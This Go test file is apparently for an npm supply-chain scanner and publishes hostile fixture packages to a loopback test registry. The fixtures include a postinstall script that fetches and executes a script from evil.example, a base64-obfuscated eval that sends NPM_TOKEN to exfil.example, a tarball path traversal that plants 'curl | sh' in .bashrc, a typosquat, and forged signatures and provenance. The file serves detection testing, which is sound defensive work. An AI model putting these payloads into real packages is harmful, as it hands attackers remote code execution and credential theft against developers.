package main

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/rampartsec/rampart/internal/npmregistrytest"
	"github.com/rogpeppe/go-internal/testscript"
)

// TestScriptInspect runs the package-inspection scripts in
// testdata/inspect against the real binary and a signing registry on
// loopback.
func TestScriptInspect(t *testing.T) {
	t.Parallel()
	testscript.Run(t, testscript.Params{
		Dir: "testdata/inspect",
		Setup: func(env *testscript.Env) error {
			env.Setenv("XDG_CACHE_HOME", filepath.Join(env.WorkDir, ".cache"))
			env.Setenv("RAMPART_OSV_DB", filepath.Join(env.WorkDir, "db"))
			if err := os.MkdirAll(filepath.Join(env.WorkDir, "db"), 0o755); err != nil {
				return err
			}
			// An advisory database that affects none of the packages.
			return os.WriteFile(filepath.Join(env.WorkDir, "db", "GHSA-none.json"), []byte(`{"id":"GHSA-none","modified":"2026-01-01T00:00:00Z",`+
				`"affected":[{"package":{"ecosystem":"npm","name":"not-used-here"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}`), 0o644)
		},
		Cmds: map[string]func(ts *testscript.TestScript, neg bool, args []string){
			"exitcode":        cmdExitCode,
			"inspectregistry": cmdInspectRegistry,
		},
	})
}

// cmdInspectRegistry starts a test registry on loopback, publishes the
// packages the inspection scripts use, writes their lockfiles under $WORK
// (app/, clean/, old.json, new.json, ignores.yaml), the registry's test
// certificate authority as $WORK/roots.pem and its Sigstore trusted root
// (that authority and the test transparency log) as
// $WORK/trusted-root.json, and sets $INSPECT_REGISTRY.
func cmdInspectRegistry(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 0 {
		ts.Fatalf("usage: inspectregistry")
	}
	reg, err := npmregistrytest.Start()
	if err != nil {
		ts.Fatalf("%v", err)
	}
	ts.Defer(reg.Close)
	lib := map[string]string{"index.js": "'use strict'\nmodule.exports = (s) => String(s).toUpperCase()\n"}
	cleanPJ := `{"name":"clean-utils","version":"1.2.3","main":"index.js","repository":"github:acme/clean-utils"}`
	clean := reg.Publish(npmregistrytest.Package{Name: "clean-utils", Version: "1.2.3", Provenance: true,
		Files: map[string]string{"index.js": lib["index.js"], "package.json": cleanPJ}})
	dropper := reg.Publish(npmregistrytest.Package{Name: "postinstall-dropper", Version: "2.0.0",
		Scripts: map[string]string{"postinstall": "node scripts/setup.js"},
		Files: map[string]string{"index.js": lib["index.js"],
			"scripts/setup.js": "const https = require('https')\nconst { execSync } = require('child_process')\n\nhttps.get('https://evil.example/run.sh', (r) => {\n  let body = ''\n  r.on('data', (d) => { body += d })\n  r.on('end', () => execSync(body))\n})\n"}})
	evalPkg := reg.Publish(npmregistrytest.Package{Name: "b64-eval", Version: "0.1.0",
		Files: map[string]string{"lib/index.js": "'use strict'\n\nconst data = 'Y29uc29sZS5sb2coJ2hlbGxvJyk7IHJlcXVpcmUoJ2h0dHBzJykuZ2V0KCdodHRwczovL2V4ZmlsLmV4YW1wbGUvJyArIHByb2Nlc3MuZW52Lk5QTV9UT0tFTik='\nmodule.exports = () => eval(Buffer.from(data, 'base64').toString())\n"}})
	squat := reg.Publish(npmregistrytest.Package{Name: "lodahs", Version: "4.17.21", Files: lib})
	trav := reg.Publish(npmregistrytest.Package{Name: "traversal", Version: "1.0.0", Tarball: npmregistrytest.RawTarball([]npmregistrytest.Entry{
		{Name: "package/package.json", Body: `{"name":"traversal","version":"1.0.0"}`},
		{Name: "package/../../.bashrc", Body: "curl https://evil.example | sh\n"},
	})})
	stolen := reg.Publish(npmregistrytest.Package{Name: "stolen-provenance", Version: "1.0.0", Provenance: true,
		ProvenanceRepository: "https://github.com/mallory/stolen-provenance", Files: lib})
	forged := reg.Publish(npmregistrytest.Package{Name: "forged-sig", Version: "3.0.0", BadSignature: true, Files: lib})
	oldColour := reg.Publish(npmregistrytest.Package{Name: "colour-pal", Version: "2.3.1", Files: lib, Published: time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)})
	newColour := reg.Publish(npmregistrytest.Package{Name: "colour-pal", Version: "2.3.2", Scripts: map[string]string{"postinstall": "node install.js"},
		Published: time.Date(2025, 2, 1, 0, 0, 0, 0, time.UTC),
		Files:     map[string]string{"index.js": lib["index.js"], "install.js": "const https = require('https')\n\nhttps.get('https://stats.example/ping')\n"}})

	write := func(rel string, data []byte) {
		p := filepath.Join(ts.Getenv("WORK"), rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			ts.Fatalf("%v", err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			ts.Fatalf("%v", err)
		}
	}
	write("app/package-lock.json", reg.Lockfile(
		npmregistrytest.LockEntry{Name: "clean-utils", Version: "1.2.3", Integrity: clean},
		npmregistrytest.LockEntry{Name: "postinstall-dropper", Version: "2.0.0", Integrity: dropper, InstallScript: true},
		npmregistrytest.LockEntry{Name: "b64-eval", Version: "0.1.0", Integrity: evalPkg},
		npmregistrytest.LockEntry{Name: "lodahs", Version: "4.17.21", Integrity: squat},
		npmregistrytest.LockEntry{Name: "traversal", Version: "1.0.0", Integrity: trav},
		npmregistrytest.LockEntry{Name: "forged-sig", Version: "3.0.0", Integrity: forged},
		npmregistrytest.LockEntry{Name: "stolen-provenance", Version: "1.0.0", Integrity: stolen}))
	write("clean/package-lock.json", reg.Lockfile(npmregistrytest.LockEntry{Name: "clean-utils", Version: "1.2.3", Integrity: clean}))
	write("clean/node_modules/clean-utils/package.json", []byte(cleanPJ))
	write("clean/node_modules/clean-utils/index.js", []byte(lib["index.js"]))
	write("old.json", reg.Lockfile(npmregistrytest.LockEntry{Name: "colour-pal", Version: "2.3.1", Integrity: oldColour},
		npmregistrytest.LockEntry{Name: "clean-utils", Version: "1.2.3", Integrity: clean}))
	write("new.json", reg.Lockfile(npmregistrytest.LockEntry{Name: "colour-pal", Version: "2.3.2", Integrity: newColour, InstallScript: true},
		npmregistrytest.LockEntry{Name: "clean-utils", Version: "1.2.3", Integrity: clean}))
	write("roots.pem", reg.RootsPEM())
	write("trusted-root.json", reg.TrustedRootJSON())
	write("ignores.yaml", []byte("ignore:\n  - signal: install-script-behaviour\n    package: colour-pal\n    reason: the ping is documented and opt-out\n    until: "+
		time.Now().AddDate(0, 1, 0).Format(time.DateOnly)+"\n"))
	until := time.Now().AddDate(0, 1, 0).Format(time.DateOnly)
	write("app-ignores.yaml", []byte("ignore:\n"+
		"  - signal: obfuscated\n    package: b64-eval\n    reason: vendored test fixture\n    until: "+until+"\n"+
		"  - signal: bad-signature\n    package: forged-sig\n    reason: re-signed by our mirror\n    until: "+until+"\n"+
		"  - signal: hostile-archive\n    reason: reviewed\n    until: "+until+"\n"+
		"  - signal: bad-attestation\n    package: stolen-provenance\n    reason: moved to a fork, upstream informed\n    until: "+until+"\n"))
	ts.Setenv("INSPECT_REGISTRY", reg.URL())
}
